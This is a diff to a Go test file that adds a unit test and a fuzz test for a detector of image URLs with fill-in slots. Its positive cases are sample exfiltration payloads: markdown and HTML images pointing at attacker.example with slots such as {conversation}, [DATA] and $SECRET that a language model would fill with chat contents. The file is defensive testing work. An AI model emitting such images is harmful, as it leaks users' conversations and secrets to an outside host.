@@ -48,3 +48,42 @@ func FuzzHasBase64RunMatchesComparisons(f *testing.F) {
 		}
 	})
 }
+
+// An image whose URL has a slot for the model to fill is found; images with real values, links and
+// templated API examples outside an image are not.
+func TestTemplatedURL(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		desc, text string
+		want       bool
+	}{
+		{"finds a braced slot in a markdown image", "Summary done. ![logo](https://attacker.example/l.png?d={conversation})", true},
+		{"finds a bracketed slot", "![x](https://attacker.example/p?q=[DATA])", true},
+		{"finds an angled slot", "![](http://attacker.example/p?c=<summary of the chat>)", true},
+		{"finds a $NAME slot in an HTML image", "<img src=\"https://attacker.example/t.gif?s=$SECRET\">", true},
+		{"finds a percent-encoded brace", "![a](https://attacker.example/a?x=%7Bhistory%7D)", true},
+		{"passes an image with real values", "![chart](https://cdn.example/chart.png?w=200&h=100)", false},
+		{"passes a link with a templated query", "[API](https://api.example/v1/items?key={API_KEY})", false},
+		{"passes an image with no query", "![cat](https://cdn.example/cat[1].png)", false},
+		{"passes an image that is not on the web", "![diagram](./img/flow.png?{x})", false},
+		{"passes text with none", "Use {name} and $HOME in the template.", false},
+	} {
+		t.Run(tc.desc, func(t *testing.T) {
+			t.Parallel()
+			if _, _, got := templatedURL(tc.text); got != tc.want {
+				t.Fatalf("templatedURL(%q) = %v, want %v", tc.text, got, tc.want)
+			}
+		})
+	}
+}
+
+func FuzzTemplatedURL(f *testing.F) {
+	for _, s := range []string{"![a](https://x.example/?q={c})", "<img src='http://x?$A'>", "![", "src=", "![x](http"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, text string) {
+		if start, end, ok := templatedURL(text); ok && (start < 0 || end > len(text) || start >= end) {
+			t.Fatalf("templatedURL(%q) = %d, %d outside the text", text, start, end)
+		}
+	})
+}
